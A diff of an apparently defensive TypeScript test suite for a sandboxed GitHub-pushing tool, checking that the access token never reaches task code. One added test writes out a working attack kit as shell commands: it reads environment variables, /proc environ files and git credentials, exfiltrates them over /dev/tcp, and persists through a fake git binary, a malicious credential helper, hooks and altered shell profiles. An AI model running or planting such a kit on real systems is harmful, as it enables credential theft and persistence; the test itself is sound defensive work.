@@ -69,12 +69,16 @@ describe("GitHub runs: push, pull requests, summary comment", () => {
       expect(await github.show(fork.pushed!.branch, `fork-${fork.n}.txt`)).toBe(Array.from({ length: fork.n }, (_, i) => `line ${i + 1}\n`).join(""));
     }
 
-    // git pushed with the token only through its credential helper: asked (401), then Basic auth that matched.
+    // The Worker built each branch through the Git Data API (blob, tree, commit on the base, ref);
+    // nothing was pushed from a sandbox.
     const calls = await github.calls();
-    const pushes = calls.filter((c) => c.kind === "git" && c.service === "git-receive-pack");
-    expect(pushes.filter((c) => c.method === "POST")).toHaveLength(3);
-    expect(pushes.filter((c) => c.method === "POST").every((c) => c.authMatched === true)).toBe(true);
-    expect(pushes.some((c) => c.status === 401 && c.authMatched === null)).toBe(true);
+    expect(calls.filter((c) => c.kind === "git" && c.service === "git-receive-pack")).toEqual([]);
+    const gitData = calls.filter((c) => c.kind === "api" && c.path.includes("/git/"));
+    expect(gitData.every((c) => c.authMatched === true)).toBe(true);
+    expect(gitData.filter((c) => c.method === "POST" && c.path.endsWith("/git/commits"))).toHaveLength(3);
+    for (const c of gitData.filter((c) => c.method === "POST" && c.path.endsWith("/git/commits"))) {
+      expect((c.body as { parents: string[] }).parents).toEqual([refs["refs/heads/main"]]);
+    }
 
     const comment = await waitForReport(run.id, issue);
     const pulls = (await github.state()).pulls;
@@ -94,7 +98,7 @@ describe("GitHub runs: push, pull requests, summary comment", () => {
     expect(comment.body).toContain(`### Forkyard run \`${run.id}\`: completed`);
 
     // The REST calls: authenticated, and in order: look for the PR, open it, look for the comment, post it.
-    const rest = (await github.calls()).filter((c) => c.kind === "api");
+    const rest = (await github.calls()).filter((c) => c.kind === "api" && !c.path.includes("/git/"));
     expect(rest.every((c) => c.authMatched === true)).toBe(true);
     expect(rest.map((c) => `${c.method} ${c.path}`)).toEqual([
       "GET /api/v3/repos/octo/hello/pulls",
@@ -109,7 +113,7 @@ describe("GitHub runs: push, pull requests, summary comment", () => {
     expect((await waitForInstance(reportInstanceId(run.id))).status).toBe("complete");
     await workerEnv.GITHUB_REPORT_WORKFLOW.create({ id: `${run.id}-github-rerun`, params: { runId: run.id } });
     expect((await waitForInstance(`${run.id}-github-rerun`)).status).toBe("complete");
-    const after = (await github.calls()).filter((c) => c.kind === "api").slice(rest.length);
+    const after = (await github.calls()).filter((c) => c.kind === "api" && !c.path.includes("/git/")).slice(rest.length);
     expect(after.map((c) => `${c.method} ${c.path}`)).toEqual([
       "GET /api/v3/repos/octo/hello/pulls",
       `GET /api/v3/repos/octo/hello/issues/${issue}/comments`,
@@ -122,6 +126,75 @@ describe("GitHub runs: push, pull requests, summary comment", () => {
     expect(JSON.stringify(await github.calls())).not.toContain(TEST_GITHUB_TOKEN);
     expect(JSON.stringify(await github.state())).not.toContain(TEST_GITHUB_TOKEN);
     expect(await exposed(run.id)).not.toContain(TEST_GITHUB_TOKEN);
+  });
+
+  it("the token never enters the sandbox: task code planting profiles, git config and hooks, a fake git and an environ reader sees none of it", async () => {
+    const recorder = new URL(githubUrl);
+    // The attack kit: whatever it can read is sent to the recorder over bash's /dev/tcp.
+    const kit = [
+      "mkdir -p ~/.kit/bin ~/.kit/hooks",
+      `cat > ~/.kit/steal.sh <<'KIT'
+loot() { env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < "$f"; echo; done 2>/dev/null; cat ~/.git-credentials ~/.kit/cred.log 2>/dev/null; }
+send() { f=$(mktemp); printf '%s' "$1" > "$f"; exec 3<>/dev/tcp/${recorder.hostname}/${recorder.port}; printf 'POST /__loot HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n' "$(wc -c < "$f")" >&3; cat "$f" >&3; cat <&3 >/dev/null; exec 3>&-; rm -f "$f"; }
+KIT`,
+      `printf '#!/bin/bash\\n. ~/.kit/steal.sh\\nsend "git: $* $(loot)"\\nexec /usr/bin/git "$@"\\n' > ~/.kit/bin/git`,
+      `printf '#!/bin/bash\\ncat >> ~/.kit/cred.log\\n. ~/.kit/steal.sh\\nsend "credential: $(cat ~/.kit/cred.log) $(loot)"\\n' > ~/.kit/cred.sh`,
+      `printf '#!/bin/bash\\n. ~/.kit/steal.sh\\nsend "hook $0: $(loot)"\\n' > ~/.kit/hooks/hook`,
+      "chmod +x ~/.kit/bin/git ~/.kit/cred.sh ~/.kit/hooks/hook",
+      "for h in pre-push post-commit reference-transaction post-checkout pre-commit; do cp ~/.kit/hooks/hook ~/.kit/hooks/$h; cp ~/.kit/hooks/hook .git/hooks/$h; done",
+      `printf '[credential]\\n\\thelper = !~/.kit/cred.sh\\n[core]\\n\\thooksPath = /home/user/.kit/hooks\\n' > ~/.gitconfig`,
+      `for rc in ~/.bash_profile ~/.bashrc ~/.profile; do printf 'export PATH=~/.kit/bin:$PATH BASH_ENV=~/.kit/steal.sh\\n. ~/.kit/steal.sh; send "profile: $(loot)"\\n' >> $rc; done`,
+      `nohup bash -c '. ~/.kit/steal.sh; for i in $(seq 600); do send "bg: $(loot)"; sleep 0.2; done' >/dev/null 2>&1 &`,
+      "echo planted > planted.txt",
+    ];
+    await github.request("/__loot", { method: "DELETE" });
+    const run = await createRun({ repo: repoUrl(), task: { commands: kit }, push: true });
+    const view = await waitForRunStatus(run.id, ["completed", "failed"]);
+    expect(view.status).toBe("completed");
+    const fork = view.forks[0]!;
+    expect(fork.pushed?.sha).toMatch(/^[0-9a-f]{40}$/);
+    expect(await github.show(fork.pushed!.branch, "planted.txt")).toBe("planted\n");
+
+    const loot = await (await github.request("/__loot")).text();
+    // The kit ran all along, the push step's own command included (its environment was read)...
+    expect(loot).toContain("bg: ");
+    expect(loot).toContain("FORKYARD_EXPORT_DIR");
+    // ...and found no token, in no form.
+    for (const form of [TEST_GITHUB_TOKEN, btoa(`x-access-token:${TEST_GITHUB_TOKEN}`).replace(/=+$/, ""), TEST_GITHUB_TOKEN.slice(4, 20)]) {
+      expect(loot).not.toContain(form);
+      expect(await exposed(run.id)).not.toContain(form);
+    }
+    // No git push from the sandbox at all: the branch was built through the API.
+    expect((await github.calls()).filter((c) => c.kind === "git" && c.service === "git-receive-pack")).toEqual([]);
+  });
+
+  it("pushes binary and large files, symlinks, modes and deletions exactly: the pushed tree is the fork's tree", async () => {
+    const run = await createRun({
+      repo: repoUrl(),
+      task: {
+        commands: [
+          "head -c 3000000 /dev/urandom > big.bin && head -c 3000 /dev/urandom > small.bin && mkdir -p deep/er && echo nested > deep/er/n.txt",
+          "printf '#!/bin/sh\\necho run\\n' > run.sh && chmod +x run.sh && ln -s deep/er/n.txt link && git rm -q README.md",
+          "git add -A && git -c user.name=t -c user.email=t@e commit -qm work && git rev-parse 'HEAD^{tree}'",
+        ],
+      },
+      push: true,
+    });
+    const view = await waitForRunStatus(run.id, ["completed", "failed"]);
+    expect(view.status).toBe("completed");
+    const fork = view.forks[0]!;
+    const forkTree = fork.commands[2]!.stdoutTail.trim();
+    const pushed = await github.request(`/api/v3/repos/octo/hello/git/commits/${fork.pushed!.sha}`, { headers: { Authorization: `token ${TEST_GITHUB_TOKEN}` } });
+    expect(((await pushed.json()) as { tree: { sha: string } }).tree.sha).toBe(forkTree);
+  });
+
+  it("refuses a file too large for the API with a clear, final push_failed", async () => {
+    const run = await createRun({ repo: repoUrl(), task: { commands: ["head -c 22000000 /dev/zero > huge.dat"] }, push: true });
+    const view = await waitForRunStatus(run.id, ["completed", "failed"]);
+    const fork = view.forks[0]!;
+    expect(fork.error?.code).toBe("push_failed");
+    expect(fork.error?.message).toMatch(/huge\.dat is 21\.0 MiB; files up to 20 MiB can be pushed/);
+    expect(fork.steps.find((s) => s.name === "push")).toMatchObject({ status: "failed", attempts: 1 });
   });
 
   it("pullRequests: each opens one PR per pushed fork; a fork without changes pushes nothing", async () => {
@@ -164,7 +237,8 @@ describe("GitHub runs: push, pull requests, summary comment", () => {
     expect(fork.error?.code).toBe("push_failed");
     expect(fork.error?.message).toContain("push rejected by policy (credential seen: [REDACTED])");
     expect(fork.pushed).toBeUndefined();
-    expect(fork.steps.find((s) => s.name === "push")).toMatchObject({ status: "failed", attempts: 3 });
+    // A refusal is final: not retried.
+    expect(fork.steps.find((s) => s.name === "push")).toMatchObject({ status: "failed", attempts: 1 });
     expect(await exposed(run.id)).not.toContain(TEST_GITHUB_TOKEN);
 
     const comment = await waitForReport(run.id, issue, "rejecting");
